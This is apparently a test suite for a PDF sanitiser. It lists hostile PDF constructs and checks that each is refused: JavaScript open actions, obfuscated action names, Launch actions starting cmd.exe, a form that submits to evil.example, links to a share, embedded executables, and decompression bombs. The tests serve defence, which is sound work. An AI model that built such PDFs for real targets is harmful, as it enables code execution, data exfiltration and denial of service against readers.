// SEC-F3: which PDFs are accepted, and how they are rewritten.
import { deflateSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import { cleanPdf } from '#features/media/pdf.ts'
import { aPdf, packed, revised, stream } from '#test/pdfs.ts'

const CATALOG = '/Type/Catalog/Pages 2 0 R'
const PAGE = '/Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]'
const opening = (action: string) => ({ 1: `<<${CATALOG}/OpenAction${action}>>` })
const annotation = (dict: string) => ({ 3: `<<${PAGE}/Annots[<</Type/Annot/Rect[0 0 9 9]${dict}>>]>>` })

const ACTIVE: readonly (readonly [string, Readonly<Record<number, string>>])[] = [
  ['a script at opening', opening('<</S/JavaScript/JS(app.alert(1))>>')],
  [
    'a script in a stream',
    { ...opening(' 9 0 R'), 9: '<</S/JavaScript/JS 10 0 R>>', 10: stream('', 'app.alert(1)') },
  ],
  ['a script under a spelled-out name', opening('<</S/J#61vaScript/J#53(app.alert(1))>>')],
  ['a kind of action behind a reference', { ...opening('<</S 9 0 R>>'), 9: '/Launch' }],
  ['a program that is started', opening('<</S/Launch/F(cmd.exe)>>')],
  ['a program behind a link', annotation('/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>')],
  ['a program that follows an innocent action', opening('<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Launch/F(a)>>]>>')],
  ['a form that sends', annotation('/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(https://evil.example/)>>')],
  ['a form that reads a file', annotation('/Subtype/Widget/FT/Btn/A<</S/ImportData/F(a)>>')],
  ['another action of a field', annotation('/Subtype/Widget/AA<</K<</S/JavaScript/JS(x)>>>>')],
  ['an unknown action', annotation('/Subtype/Link/A<</S/Surprise>>')],
  ['another file', opening('<</S/GoToR/F(other.pdf)/D[0/Fit]>>')],
  ['a file within', opening('<</S/GoToE/T<</R/C/N(a)>>>>')],
  ['scripts by name', { 1: `<<${CATALOG}/Names<</JavaScript<</Names[(a) 9 0 R]>>>>>>`, 9: '<</JS(x)>>' }],
  ['embedded files', { 1: `<<${CATALOG}/Names<</EmbeddedFiles<</Names[(a) 9 0 R]>>>>>>`, 9: '<</F(a)>>' }],
  ['an attached file', annotation('/Subtype/FileAttachment/FS<</F(a)/EF<</F 9 0 R>>>>')],
  ['an embedded file that nothing names', { 9: stream('/Type/EmbeddedFile', 'MZ') }],
  ['rich media', annotation('/Subtype/RichMedia/RichMediaContent<<>>')],
  ['a film', annotation('/Subtype/Movie')],
  [
    'a form of another kind',
    { 1: `<<${CATALOG}/AcroForm<</Fields[]/XFA[(a) 9 0 R]>>>>`, 9: stream('', '<x/>') },
  ],
  ['a link to a script', annotation('/Subtype/Link/A<</S/URI/URI(java\\nscript:alert\\(1\\))>>')],
  ['a link to a file', annotation('/Subtype/Link/A<</S/URI/URI(file:///c:/a.exe)>>')],
  ['a link to a share', annotation('/Subtype/Link/A<</S/URI/URI(\\\\\\\\evil\\\\a)>>')],
  ['a command of the reader', annotation('/Subtype/Link/A<</S/Named/N/SaveAs>>')],
  ['data of a stream elsewhere', { 4: stream('/F(http://evil.example/)', '') }],
  ['PostScript', { 9: stream('/Type/XObject/Subtype/PS', 'x') }],
]

test.each(ACTIVE)('SEC-F3: a PDF with %s is refused', async (_, objects) => {
  expect(await cleanPdf(aPdf(objects))).toBe('active')
})

test.each(ACTIVE)(
  'SEC-F3: a PDF with %s in a compressed stream of objects is refused',
  async (_, objects) => {
    expect(await cleanPdf(packed(objects))).toBe('active')
  },
)

test('SEC-F3: a PDF with a script in an earlier or later revision is refused', async () => {
  const script = opening('<</S/JavaScript/JS(x)>>')
  expect(await cleanPdf(revised(aPdf(), script))).toBe('active')
  expect(await cleanPdf(revised(aPdf(script), { 1: `<<${CATALOG}>>` }))).toBe('active')
})

const HARMLESS: readonly (readonly [string, Readonly<Record<number, string>>])[] = [
  ['one page', {}],
  ['a view at opening', opening('[3 0 R/XYZ null null 1]')],
  ['a place at opening', opening('<</S/GoTo/D[3 0 R/Fit]>>')],
  ['a link to the web', annotation('/Subtype/Link/A<</S/URI/URI(https://example.jp/)>>')],
  ['a mailbox', annotation('/Subtype/Link/A<</S/URI/URI(mailto:a@example.jp)>>')],
  ['a place in it', annotation('/Subtype/Link/Dest[3 0 R/Fit]')],
  ['the next page', annotation('/Subtype/Link/A<</S/Named/N/NextPage>>')],
  [
    'an outline',
    {
      1: `<<${CATALOG}/Outlines 9 0 R>>`,
      9: '<</First 10 0 R/Last 10 0 R/Count 1>>',
      10: '<</Title(a)/Parent 9 0 R/A<</S/GoTo/D[3 0 R/Fit]>>>>',
    },
  ],
  [
    'structure',
    {
      1: `<<${CATALOG}/StructTreeRoot 9 0 R>>`,
      9: '<</K 10 0 R>>',
      10: '<</S/P/A<</O/Layout/Placement/Block>>/P 9 0 R>>',
    },
  ],
  [
    'a form to fill in',
    { 1: `<<${CATALOG}/AcroForm<</Fields[9 0 R]>>>>`, 9: '<</FT/Tx/T(a)/Subtype/Widget/Rect[0 0 9 9]>>' },
  ],
]

test.each(HARMLESS)('SEC-F3: a PDF with %s is accepted and can be read afterwards', async (_, objects) => {
  for (const file of [aPdf(objects), packed(objects)]) {
    const clean = await cleanPdf(file)
    if (typeof clean === 'string') throw new Error(clean)
    expect((await PDFDocument.load(clean)).getPageCount()).toBe(1)
    expect(await cleanPdf(clean)).toEqual(expect.any(Uint8Array))
  }
})

test('SEC-F3: the stored PDF does not contain content hidden from the reader', async () => {
  const hidden = '9 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n'
  const commented = Buffer.from(aPdf())
    .toString('latin1')
    .replace('2 0 obj', `% ${hidden.replaceAll('\n', ' ')}\n2 0 obj`)
  const kept = await cleanPdf(Buffer.from(commented, 'latin1'))
  expect(typeof kept === 'string' ? kept : Buffer.from(kept).toString('latin1')).not.toContain('JavaScript')
})

const bomb = (type: string) =>
  aPdf({
    9: stream(
      `/Type/${type}/N 1/First 5/Size 9/W[1 1 1]/Filter/FlateDecode`,
      deflateSync(Buffer.alloc(110_000_000)),
    ),
  })

test.each<[string, Uint8Array, string]>([
  ['another file in front', Buffer.concat([Buffer.from('MZ'), aPdf()]), 'unreadable'],
  ['another file behind', Buffer.concat([aPdf(), Buffer.from('PK')]), 'unreadable'],
  ['half a file', aPdf().subarray(0, 150), 'unreadable'],
  ['no pages', aPdf({ 1: '<</Type/Catalog>>' }), 'unreadable'],
  ['an object that does not end', aPdf({ 9: '<</A(' }), 'unreadable'],
  ['lists without an end', aPdf({ 9: '['.repeat(200_000) }), 'unreadable'],
  ['objects that inflate without an end', bomb('ObjStm'), 'unreadable'],
  ['spaces that are read again and again', aPdf({ 9: `1\nendobj\nz${' '.repeat(300_000)}` }), 'unreadable'],
  ['a password', aPdf({}, '/Encrypt<</Filter/Standard/V 2>>'), 'locked'],
  ['a password, packed', packed({}, '/Encrypt<</Filter/Standard/V 2>>'), 'locked'],
])('SEC-F3: a PDF with %s is refused', async (_, file, why) => {
  expect(await cleanPdf(file)).toBe(why)
})

test('SEC-F3: a PDF stream that inflates beyond the limit is refused, even when its objects are valid', async () => {
  const whole = Buffer.concat([Buffer.from('9 0 (a) '), Buffer.alloc(110_000_000, ' ')])
  const file = aPdf({ 10: stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(whole)) })
  expect(await cleanPdf(file)).toBe('unreadable')
})

test('SEC-F3: a PDF’s cross-reference table beyond the limit is not inflated', async () => {
  const size = '/Type/XRef/Size 900000000000/W[0 0 0]/Root 1 0 R/Filter/FlateDecode'
  const file = aPdf({ 9: stream(size, deflateSync(Buffer.alloc(110_000_000))) })
  expect(await cleanPdf(file)).toEqual(expect.any(Uint8Array))
})
